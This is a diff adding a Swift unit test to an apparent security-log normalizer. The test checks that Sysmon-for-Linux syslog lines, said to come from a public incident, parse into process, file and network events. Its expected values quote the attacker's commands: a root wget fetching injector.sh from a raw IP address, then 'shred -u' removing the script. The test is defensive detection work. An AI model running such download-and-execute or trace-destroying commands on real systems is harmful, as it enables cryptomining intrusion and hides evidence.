@@ -172,6 +172,22 @@ import Testing
         #expect(signals.first?.field("file.name") == "Login Data")
     }
 
+    /// Sysmon for Linux writes the same event XML to syslog (lines from a public incident's
+    /// /var/log/syslog: a miner dropped with wget and curl, its script shredded).
+    @Test func sysmonForLinuxIsReadAsLinuxEvents() throws {
+        let (signals, rejected) = try Fixture.normalize("sysmon-linux.log")
+        #expect(rejected.isEmpty, "\(rejected.map(\.reason))")
+        #expect(signals.map(\.kind.name) == ["linux.process_creation", "linux.file_event", "linux.network_connection", "linux.process_creation"])
+        let wget = try #require(signals.first)
+        #expect(wget.field("Image") == "/usr/bin/wget" && wget.field("CommandLine") == "wget http://44.204.18.94:80/injector.sh")
+        #expect(wget.field("ParentImage") == "/bin/bash" && wget.field("User") == "root")
+        #expect(wget.field("host.name") == "ip-172-31-60-25" && wget.field("Channel") == "Linux-Sysmon/Operational")
+        #expect(wget.title == "wget started from bash by root on ip-172-31-60-25")
+        #expect(signals[1].field("TargetFilename") == "/opt/automation/injector.sh")
+        #expect(signals[2].field("destination.ip") == "44.204.18.94" && signals[2].fields["destination.port"] == .int(80))
+        #expect(signals[3].field("CommandLine") == "shred -u ./injector.sh")
+    }
+
     @Test func brokenEventXMLIsRefusedInOneLineNeverCrashes() {
         let cases = [
             "<Event><System><EventID>1</EventID>", "<Event><System></Event>", "<Event a=b></Event>", "<Event>&bogus;</Event>",
